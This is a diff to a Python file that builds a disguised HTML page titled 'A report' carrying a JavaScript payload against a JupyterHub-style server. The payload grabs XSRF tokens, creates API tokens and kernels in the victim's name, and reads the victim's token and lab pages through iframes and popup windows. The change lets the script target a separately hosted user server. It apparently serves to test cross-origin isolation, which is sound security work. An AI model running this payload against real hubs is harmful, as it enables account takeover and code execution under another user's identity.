@@ -39,22 +39,22 @@ SCRIPT = """
     return asked(path, {...json, headers: {...json.headers, "X-XSRFToken": found[1]}, body: "{}"});
   };
   await trial("key", () => keyed("HUB/hub/logo", "HUB/hub/api/users/VICTIM/tokens"));
-  await trial("kernel", () => keyed("HUB/user/VICTIM/voila/static/voila.js", "HUB/user/VICTIM/api/kernels"));
+  await trial("kernel", () => keyed("SERVER/voila/static/voila.js", "SERVER/api/kernels"));
   await trial("parent", () => {
     if (parent === window) throw new DOMException("", "none");
     return parent.document.title;
   });
-  for (const path of ["/hub/token", "/services/dashboards/home", "/user/VICTIM/lab"]) {
+  for (const path of ["HUB/hub/token", "HUB/services/dashboards/home", "SERVER/lab"]) {
     await trial("frame " + path, async () => {
       const frame = document.createElement("iframe");
       const loaded = new Promise((done) => { frame.onload = done; setTimeout(done, 4000); });
-      frame.src = "HUB" + path;
+      frame.src = path;
       document.body.append(frame);
       await loaded;
       return frame.contentDocument.documentElement.outerHTML;
     });
     await trial("window " + path, async () => {
-      const opened = window.open("HUB" + path);
+      const opened = window.open(path);
       for (let turn = 0; turn < 20; turn++) {
         await new Promise((done) => setTimeout(done, 200));
         const seen = opened.document.documentElement.outerHTML;
@@ -68,14 +68,16 @@ SCRIPT = """
 """
 
 
-def script(hub: str, victim: str) -> str:
-    """The script against a hub at that address, as whoever opens it."""
-    return SCRIPT.replace("HUB", hub).replace("VICTIM", victim)
+def script(hub: str, victim: str, server: str = "") -> str:
+    """The script against a hub at that address, as whoever opens it; ``server`` is the victim's, if not below it."""
+    at = server or f"{hub}/user/{victim}"
+    return SCRIPT.replace("HUB", hub).replace("VICTIM", victim).replace("SERVER", at)
 
 
-def page(hub: str, victim: str) -> str:
+def page(hub: str, victim: str, server: str = "") -> str:
     """A page that runs it."""
-    return f"<!doctype html><title>A report</title><body><p>A report</p><script>{script(hub, victim)}</script></body>"
+    tried = script(hub, victim, server)
+    return f"<!doctype html><title>A report</title><body><p>A report</p><script>{tried}</script></body>"
 
 
 def notebook(hub: str, victim: str) -> Any:
